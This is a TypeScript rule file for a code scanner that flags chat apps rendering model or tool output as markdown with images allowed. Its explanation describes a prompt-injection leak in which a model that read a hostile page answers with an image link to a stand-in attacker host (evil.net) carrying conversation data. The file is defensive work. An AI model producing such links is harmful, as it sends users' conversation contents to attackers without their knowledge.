import type { FileCheck } from '../../check.ts';
import type { SinkSpec } from '../../facts/flow/flow-facts.ts';
import { PYTHON, SCRIPT } from '../../knowledge/sinks/languages.ts';
import { sightFlows } from '../../knowledge/source-trust.ts';

const RENDERERS = [
  'marked',
  'marked.parse',
  'marked.marked',
  'markdown-it().render',
  'showdown.Converter().makeHtml',
  'snarkdown',
];
const SINKS: readonly SinkSpec[] = [
  ...RENDERERS.map((callee): SinkSpec => ({
    kind: 'html',
    languages: SCRIPT,
    callee,
    arguments: [0],
    from: ['model', 'tool'],
  })),
  ...[
    'markdown.markdown',
    'markdown2.markdown',
    'mistune.html',
    'mistune.markdown',
    'IPython.display.Markdown',
    'streamlit.markdown',
  ].map((callee): SinkSpec => ({ kind: 'html', languages: PYTHON, callee, arguments: [0], from: ['model', 'tool'] })),
  ...['innerHTML', 'dangerouslySetInnerHTML'].map((property): SinkSpec => ({
    kind: 'html',
    languages: SCRIPT,
    property,
    from: ['model'],
  })),
];
/** The page says which images it loads, or the renderer leaves them out. */
const NO_IMAGES =
  /img-src|Content-Security-Policy|disallowedElements|allowedElements|image\s{0,3}[:=]\s{0,3}(?:false|\(\))|no_images|saniti[sz]e|DOMPurify/i;

export const check: FileCheck = {
  id: 'data-handling-markdown-exfil-render',
  title: "A model's answer is shown with pictures from anywhere",
  severity: 'medium',
  kind: 'vuln',
  confidence: 'medium',
  since: '0.1.0',
  cwe: [79, 200],
  why: `
    A picture is loaded when it is shown, and its address can carry data. A model that read a hostile page can be made to
    answer with \`![](https://evil.net/?q=…)\`, and what the conversation held goes there without a click.`,
  fix: "Leave pictures and raw markup out of what models write, or let the page load pictures from known hosts only (`img-src 'self'`).",
  blindSpots: 'A policy that is sent by another server is not seen.',
  wants: { sinks: SINKS },
  examples: {
    bad: [
      {
        'chat.js': `
          import OpenAI from 'openai';
          import { marked } from 'marked';
          const client = new OpenAI();
          export async function show(messages) {
            const answer = await client.chat.completions.create({ model: 'm', messages });
            return marked(«answer.choices[0].message.content»);
          }`,
      },
      {
        'chat.py': `
          import anthropic, markdown
          client = anthropic.Anthropic()

          def show(messages):
              answer = client.messages.create(model='m', max_tokens=9, messages=messages)
              return markdown.markdown(«answer.content[0].text»)`,
      },
    ],
    good: [
      {
        'chat.js': `
          import OpenAI from 'openai';
          import { marked } from 'marked';
          import DOMPurify from 'dompurify';
          const client = new OpenAI();
          export async function show(messages) {
            const answer = await client.chat.completions.create({ model: 'm', messages });
            return DOMPurify.sanitize(marked(answer.choices[0].message.content), { FORBID_TAGS: ['img'] });
          }`,
      },
      {
        'page.py': `
          import markdown

          def show(path):
              return markdown.markdown(open(path).read())`,
      },
    ],
  },

  *find({ flows, text }) {
    if (NO_IMAGES.test(text)) return;
    for (const sighting of sightFlows(
      flows,
      'medium',
      ['model', 'tool'],
      ({ source, callee }) =>
        `${callee.replace(/^\./, '')} shows ${source.what} with its pictures; loading one can send data away.`,
    )) {
      yield { ...sighting, severity: 'medium' };
    }
  },
};
